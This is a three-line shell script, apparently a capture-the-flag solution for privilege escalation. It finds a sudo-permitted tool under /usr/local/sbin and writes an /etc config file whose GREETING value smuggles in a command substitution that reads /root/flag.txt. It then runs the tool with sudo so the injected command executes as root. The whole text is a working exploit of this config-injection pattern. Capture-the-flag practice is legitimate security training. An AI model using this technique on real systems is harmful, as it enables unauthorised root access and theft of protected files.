tool=$(sudo -n -l | grep -o '/usr/local/sbin/[a-z]*')
echo 'GREETING=$(cat /root/flag.txt)' > "/etc/$(basename "$tool").conf"
sudo -n "$tool"
